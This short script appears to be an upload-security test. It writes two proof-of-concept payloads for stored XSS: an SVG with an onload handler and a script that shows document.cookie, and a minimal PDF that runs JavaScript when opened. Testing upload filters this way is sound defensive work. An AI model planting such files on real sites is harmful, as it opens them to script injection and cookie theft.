# tries: pictures that carry programs: SVG with script, PDF with JavaScript
# from: stored XSS by uploaded SVG
tried result-script
echo '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>' > evil.svg
tried result-pdf-script
printf '%%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%%%EOF\n' > evil.pdf
